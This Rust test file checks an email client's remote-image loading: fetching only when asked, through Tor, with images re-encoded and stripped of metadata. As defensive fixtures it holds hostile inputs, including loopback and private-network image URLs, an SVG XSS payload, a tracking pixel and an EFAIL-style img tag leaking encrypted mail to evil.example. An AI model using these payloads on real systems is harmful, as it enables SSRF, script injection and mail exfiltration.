//! Pictures on other people's servers: nothing is asked for until Alice says so, then once and by Tor, and what she sees
//! are copies that were drawn anew.

use crate::support::http::Response;
use crate::support::socks::{Internet, Socks};
use crate::support::{Server, World};
use image::{DynamicImage, ImageFormat};
use std::io::Cursor;

fn drawn(format: ImageFormat) -> Vec<u8> {
    let dot = |x: u32, y: u32| image::Rgb([(x * 7 % 256) as u8, (y * 5 % 256) as u8, 90]);
    let mut bytes = Cursor::new(Vec::new());
    DynamicImage::ImageRgb8(image::RgbImage::from_fn(40, 20, dot)).write_to(&mut bytes, format).unwrap();
    bytes.into_inner()
}

/// A JPEG that tells where it was taken.
fn telling() -> Vec<u8> {
    let plain = drawn(ImageFormat::Jpeg);
    let exif = b"Exif\0\0MM\0\x2a\0\0\0\x08\0\0\0\0\0\0 Lagos harbour";
    let length = u16::try_from(exif.len() + 2).unwrap().to_be_bytes();
    [&plain[..2], b"\xff\xe1", &length, exif, &plain[2..]].concat()
}

fn internet() -> Internet {
    let ok = |kind: &str, bytes: Vec<u8>| (format!("HTTP/1.1 200 OK\r\nContent-Type: {kind}"), bytes);
    let led = "HTTP/1.1 302 Found\r\nLocation: http://192.168.1.1/router.png";
    Internet::from([
        ("pixel.example/one.jpg".into(), ok("image/jpeg", telling())),
        (
            "cdn.example/two.png?u=1".into(),
            ok("text/html", [drawn(ImageFormat::Png), b"hidden behind".to_vec()].concat()),
        ),
        ("pixel.example/three.gif".into(), ok("image/gif", drawn(ImageFormat::Gif))),
        ("other.example/four.png".into(), ok("image/png", drawn(ImageFormat::Png))),
        ("liar.example/page.png".into(), ok("image/png", b"<svg onload=alert(1)>".to_vec())),
        ("home.example/led.png".into(), (led.into(), Vec::new())),
    ])
}

fn html(from: &str, subject: &str, body: &str) -> Vec<u8> {
    format!(
        "From: {from}\r\nTo: alice@lab.test\r\nSubject: {subject}\r\nDate: Fri, 17 May 2024 09:30:00 +0000\r\n\
         Message-ID: <{subject}@stories.test>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
         <p>{subject}</p>{body}\r\n"
    )
    .into_bytes()
}

const THREE: &str = "<img src=\"http://pixel.example/one.jpg\" alt=one><table><tr>\
    <td background=\"http://cdn.example/two.png?u=1\">x</td></tr></table><img src=\"http://pixel.example/three.gif\">\
    <img src=\"http://pixel.example/one.jpg\"><img src=\"http://track.example/open.gif?who=alice\" width=1 height=1>";

struct Reader<'w> {
    server: Server<'w>,
    cookie: String,
}

impl<'w> Reader<'w> {
    fn new(world: &'w World) -> Self {
        let server = world.serve();
        let cookie = server.sign_in();
        Self { server, cookie }
    }

    fn page(&self, path: &str) -> Response {
        let page = self.server.request("GET", path).cookie(&self.cookie).send();
        assert_eq!(page.status, 200, "{path}: {}", page.text());
        page
    }

    /// Presses a button of the form for pictures; gives the page that follows.
    fn press(&self, page: &Response, value: &str) -> Response {
        let form = page.form_with("/pictures\"");
        let origin = self.server.origin();
        let post = self.server.request("POST", &form.action).cookie(&self.cookie).origin(&origin);
        let answer = post.form(&form.pressed(value)).send();
        assert_eq!(answer.status, 303, "{}", answer.text());
        self.page(answer.header("location").unwrap().split('#').next().unwrap())
    }

    /// What a content host answers.
    fn content(&self, address: &str) -> Response {
        let rest = address.strip_prefix("http://").unwrap();
        let (host, path) = rest.split_once('/').unwrap();
        self.server.request("GET", &format!("/{path}")).host(host).send()
    }

    /// The document in the frame of a page.
    fn frame(&self, page: &Response) -> Response {
        let text = page.text();
        let frame = text.split("data-message-frame").nth(1).unwrap_or_else(|| panic!("no frame in {text}"));
        self.content(frame.split("src=\"").nth(1).unwrap().split('"').next().unwrap())
    }

    /// The pictures of other servers that a document shows: addresses of ours, each once.
    fn remote(&self, document: &Response) -> Vec<String> {
        let text = document.text();
        let mut found: Vec<String> = text
            .split('"')
            .filter(|piece| piece.starts_with("http://") && piece.contains("/remote/"))
            .map(str::to_owned)
            .collect();
        found.dedup();
        found.sort();
        found.dedup();
        found
    }
}

fn use_tor(world: &World, socks: &Socks) {
    world.ok(&["config", "set", "tor.socks", &format!("127.0.0.1:{}", socks.port)]);
    world.ok(&["config", "set", "tor.mode", "socks"]);
}

fn copies(world: &World) -> Vec<Vec<u8>> {
    let files = std::fs::read_dir(world.data().join("pictures")).unwrap();
    files.map(|entry| std::fs::read(entry.unwrap().path()).unwrap()).collect()
}

#[test]
fn pictures_come_when_asked_for_by_tor_once_and_drawn_anew() {
    let world = World::new();
    world.ok(&["import", &world.file("a.eml", html("Weekly <news@weekly.example>", "barns", THREE))]);
    let id = world.only("*");
    let socks = Socks::begin(internet());
    world.ok(&["config", "set", "tor.mode", "off"]);
    let reader = Reader::new(&world);
    let plain = format!("/messages/{id}?view=html");

    // Blocked, and said so.
    let page = reader.page(&plain);
    assert!(page.text().contains("not loaded") && page.text().contains("track.example"), "{}", page.text());
    assert!(reader.remote(&reader.frame(&page)).is_empty());

    // Without Tor nothing is asked for, and the page says why.
    let page = reader.press(&page, "once");
    assert!(page.text().contains("Tor is not there"), "{}", page.text());
    assert!(reader.remote(&reader.frame(&page)).is_empty());
    let log = world.ok(&["network", "log"]);
    let entries = log.as_array().unwrap();
    assert!(!entries.is_empty());
    for entry in entries {
        assert_eq!((&entry["purpose"], &entry["route"]), (&"remote image".into(), &"tor".into()), "{entry}");
        assert_ne!(entry["outcome"], "connected", "{entry}");
    }

    // With Tor: exactly the three, by name, and nothing that tells who asks.
    use_tor(&world, &socks);
    let status = world.ok(&["network", "status"]);
    assert_eq!(
        (&status["tor"]["mode"], &status["tor"]["state"]),
        (&"socks".into(), &"answers".into()),
        "{status}"
    );
    assert!(socks.what().is_empty(), "asking whether Tor is there names no server");
    let page = reader.press(&reader.page(&plain), "once");
    let three = ["cdn.example/two.png?u=1", "pixel.example/one.jpg", "pixel.example/three.gif"];
    assert_eq!(socks.what(), three);
    for asked in socks.asked() {
        assert!(asked.by_name && asked.port == 80, "{asked:?}");
        let head = asked.lines.join("\n").to_ascii_lowercase();
        for telling in ["cookie", "referer", "accept-language", "mailkeep", "alice", "localhost"] {
            assert!(!head.contains(telling), "{head}");
        }
    }
    let circuits: std::collections::BTreeSet<_> = socks.asked().into_iter().map(|a| a.circuit).collect();
    assert_eq!(circuits.len(), 2, "one circuit for each server");

    // The frame shows copies of ours.
    assert!(
        page.text().contains("3 pictures are shown") && page.text().contains("track.example"),
        "{}",
        page.text()
    );
    let document = reader.frame(&page);
    let policy = document.header("content-security-policy").unwrap();
    assert!(policy.contains("default-src 'none'") && !policy.contains("example"), "{policy}");
    for foreign in ["pixel.example", "cdn.example", "track.example"] {
        assert!(!document.text().contains(foreign), "{}", document.text());
    }
    let remote = reader.remote(&document);
    assert_eq!(remote.len(), 3, "{remote:?}");
    let originals = [telling(), drawn(ImageFormat::Gif)];
    for address in &remote {
        let picture = reader.content(address);
        assert_eq!(picture.status, 200);
        assert!(["image/png", "image/jpeg"].contains(&picture.header("content-type").unwrap()));
        assert!(!originals.contains(&picture.body), "drawn anew");
        assert!(
            !picture.body.windows(5).any(|w| w == b"Lagos" || w == b"Exif\0" || w == b"hidde"),
            "no metadata"
        );
        let seen = image::load_from_memory(&picture.body).unwrap();
        assert_eq!((seen.width(), seen.height()), (40, 20));
    }
    // Only GET, only with its capability.
    let (host, path) = remote[0].strip_prefix("http://").unwrap().split_once('/').unwrap();
    let post = reader.server.request("POST", &format!("/{path}")).host(host).origin("null").send();
    assert_ne!(post.status, 200);
    let guessed = format!("{}{}", "0".repeat(32), &host[32..]);
    assert_eq!(reader.server.request("GET", &format!("/{path}")).host(&guessed).send().status, 404);

    // It was this once; and what is here is not fetched again, not even after a new start.
    let page = reader.page(&plain);
    assert!(reader.remote(&reader.frame(&page)).is_empty() && page.text().contains("not loaded"));
    reader.press(&page, "once");
    drop(reader);
    let reader = Reader::new(&world);
    let page = reader.page(&format!("{plain}&pictures={id}"));
    let remote = reader.remote(&reader.frame(&page));
    assert_eq!((remote.len(), reader.content(&remote[0]).status), (3, 200));
    assert_eq!(socks.what(), three);

    // What is kept is sealed, and goes with its message.
    assert_eq!(copies(&world).len(), 3);
    for copy in copies(&world) {
        assert!(!copy.windows(4).any(|w| w == b"\x89PNG" || w == b"JFIF" || w == b"IHDR"));
    }
    world.ok(&["tag", "+trash", "--", "*"]);
    world.ok(&["delete", &id]);
    assert!(copies(&world).is_empty());
}

#[test]
fn a_decision_for_a_sender_holds_until_it_is_taken_back() {
    let world = World::new();
    let four = "<img src=\"http://other.example/four.png\">";
    let one = "<img src=\"http://pixel.example/one.jpg\">";
    for (from, subject, body) in [
        ("news@weekly.example", "first", four),
        ("Weekly <News@Weekly.example>", "second", one),
        ("bob@lab.test", "stranger", one),
    ] {
        world.ok(&["import", &world.file(&format!("{subject}.eml"), html(from, subject, body))]);
    }
    let socks = Socks::begin(internet());
    let reader = Reader::new(&world);
    use_tor(&world, &socks);
    let first = format!("/messages/{}", world.only("subject:first"));
    let second = format!("/messages/{}", world.only("subject:second"));

    reader.press(&reader.page(&first), "always");
    assert_eq!(socks.what(), ["other.example/four.png"]);
    let listed = world.ok(&["sender", "list"]);
    assert_eq!(
        listed,
        serde_json::json!([{"address": "news@weekly.example", "pictures": true, "view": null}])
    );
    assert!(reader.page("/settings").text().contains("news@weekly.example"));

    // The other message of that sender: fetched when its frame is looked at, and the frame's pictures wait for it.
    let page = reader.page(&second);
    assert_eq!(socks.what().len(), 1, "a page alone fetches nothing");
    let remote = reader.remote(&reader.frame(&page));
    assert_eq!(remote.len(), 1);
    assert_eq!(reader.content(&remote[0]).status, 200);
    assert_eq!(socks.what(), ["other.example/four.png", "pixel.example/one.jpg"]);
    let stranger = reader.page(&format!("/messages/{}", world.only("subject:stranger")));
    assert!(reader.remote(&reader.frame(&stranger)).is_empty(), "nobody else's");

    // In spam the name may be borrowed.
    world.ok(&["tag", "+spam", "--", "subject:second"]);
    assert!(reader.remote(&reader.frame(&reader.page(&second))).is_empty());
    world.ok(&["tag", "-spam", "+inbox", "--", "subject:second"]);

    // Taken back: a frame that was allowed shows no more of them.
    let open = reader.page(&first);
    let taken = reader.press(&open, "ask");
    assert!(reader.remote(&reader.frame(&taken)).is_empty());
    assert_eq!(world.ok(&["sender", "list"]), serde_json::json!([]));
    assert_eq!(socks.what().len(), 2);

    // The view is remembered the same way.
    world.ok(&["sender", "set", "news@weekly.example", "--view", "text"]);
    assert!(!reader.page(&first).text().contains("data-message-frame"));
    assert!(reader.page(&format!("{first}?view=html")).text().contains("data-message-frame"));
    world.ok(&["sender", "forget", "NEWS@weekly.example"]);
    let page = reader.page(&format!("{first}?view=text"));
    let form = page.form_with("/view\"");
    let origin = reader.server.origin();
    let post = reader.server.request("POST", &form.action).cookie(&reader.cookie).origin(&origin);
    assert_eq!(post.form(&form.pressed("text")).send().status, 303);
    assert!(!reader.page(&first).text().contains("data-message-frame"));
    world.fails(4, &["sender", "forget", "nobody@weekly.example"]);
    world.fails(2, &["sender", "set", "nobody", "--pictures", "always"]);

    // Switched off, all copies go, and nothing is fetched any more.
    assert_eq!(copies(&world).len(), 2);
    world.ok(&["config", "set", "remote-images", "never"]);
    assert!(copies(&world).is_empty());
    assert!(!reader.page(&format!("{first}?view=html")).text().contains("Show pictures"));
}

#[test]
fn what_leads_home_or_lies_is_not_shown_and_encrypted_mail_asks_for_nothing() {
    let world = World::new();
    let hostile = "<img src=\"http://127.0.0.1/a.png\"><img src=\"http://0x7f.1/b.png\"><img src=\"http://[::1]/c.png\">\
        <img src=\"http://[64:ff9b::7f00:1]/d.png\"><img src=\"http://router/e.png\"><img src=\"http://a.onion/f.png\">\
        <img src=\"http://other.example:22/g.png\"><img src=\"http://u:p@other.example/h.png\">\
        <img src=\"http://liar.example/page.png\"><img src=\"http://home.example/led.png\">\
        <img src=\"http://other.example/four.png\">";
    world.ok(&["import", &world.file("a.eml", html("mallory@evil.example", "hostile", hostile))]);
    let sealed = "From: bob@lab.test\r\nTo: alice@lab.test\r\nSubject: sealed\r\nMessage-ID: <s@stories.test>\r\n\
        Date: Fri, 17 May 2024 09:30:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n\
        --m\r\nContent-Type: text/html\r\n\r\n<p>see</p><img src=\"http://evil.example/leak?\r\n\
        --m\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\r\n\r\n\
        --e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\
        --e\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nAAAA\r\n-----END PGP MESSAGE-----\r\n\
        --e--\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://other.example/four.png\">\r\n--m--\r\n";
    world.ok(&["import", &world.file("b.eml", sealed)]);
    let socks = Socks::begin(internet());
    let reader = Reader::new(&world);
    use_tor(&world, &socks);

    let path = format!("/messages/{}?view=html", world.only("subject:hostile"));
    let page = reader.press(&reader.page(&path), "once");
    assert!(page.text().contains("1 of 1"), "{}", page.text());
    let remote = reader.remote(&reader.frame(&page));
    assert_eq!(remote.len(), 1, "{remote:?}");
    let asked = ["home.example/led.png", "liar.example/page.png", "other.example/four.png"];
    assert_eq!(socks.what(), asked, "what is refused never gets there");

    // Encrypted mail asks for nothing: not by the page, not by a form made up, not by a decision for its sender.
    let id = world.only("subject:sealed");
    world.ok(&["sender", "set", "bob@lab.test", "--pictures", "always"]);
    let sealed = reader.page(&format!("/messages/{id}?view=html"));
    assert!(!sealed.text().contains("Show pictures"), "{}", sealed.text());
    if sealed.text().contains("data-message-frame") {
        assert!(reader.remote(&reader.frame(&sealed)).is_empty());
    }
    let mut fields = page.form_with("/view\"").fields;
    fields.push(("pictures".into(), "once".into()));
    let origin = reader.server.origin();
    let post = reader.server.request("POST", &format!("/messages/{id}/pictures"));
    post.cookie(&reader.cookie).origin(&origin).form(&fields).send();
    assert_eq!(socks.what(), asked);

    // Tor goes: what is here stays, nothing else leaves, and the page says why.
    world.ok(&[
        "import",
        &world.file("c.eml", html("carol@lab.test", "later", "<img src=\"http://pixel.example/one.jpg\">")),
    ]);
    socks.end();
    assert_eq!(world.ok(&["network", "status"])["tor"]["state"], "silent");
    let later = format!("/messages/{}?view=html", world.only("subject:later"));
    let page = reader.press(&reader.page(&later), "once");
    assert!(page.text().contains("Tor is not there"), "{}", page.text());
    assert_eq!(socks.what(), asked);
    let log = world.ok(&["network", "log"]);
    assert!(log.as_array().unwrap().iter().all(|entry| entry["route"] == "tor"), "never direct: {log}");
}

#[test]
fn the_settings_say_what_they_can_do() {
    // As a store is when it is made.
    let world = World::bare();
    world.ok(&["init"]);
    assert!(world.fails(2, &["config", "set", "tor.config", "/nowhere/arti.toml"]).contains("tor.config"));
    assert!(
        world
            .fails(2, &["config", "set", "tor.config", &world.file("no.toml", "[tor_network")])
            .contains("tor.config")
    );
    assert!(world.fails(1, &["config", "set", "tor.mode", "socks"]).contains("tor.socks"));
    for bad in ["9050", "http://127.0.0.1:9050", "127.0.0.1:0"] {
        world.fails(2, &["config", "set", "tor.socks", bad]);
    }
    let status = world.ok(&["network", "status"]);
    assert_eq!((&status["tor"]["mode"], &status["tor"]["state"]), (&"embedded".into(), &"resting".into()));
    assert!(!world.data().join("tor").exists(), "nothing needed it yet");
    let route = |status: &serde_json::Value, purpose: &str| {
        let routes = status["routes"].as_array().unwrap();
        routes.iter().find(|r| r["purpose"] == purpose).unwrap()["route"].clone()
    };
    for purpose in ["remote image", "unsubscribe", "dkim", "key lookup", "avatar"] {
        assert_eq!(route(&status, purpose), "tor", "{purpose}");
    }
    world.ok(&["config", "set", "remote-images.route", "direct"]);
    let status = world.ok(&["network", "status"]);
    assert_eq!((route(&status, "remote image"), route(&status, "dkim")), ("direct".into(), "tor".into()));
}
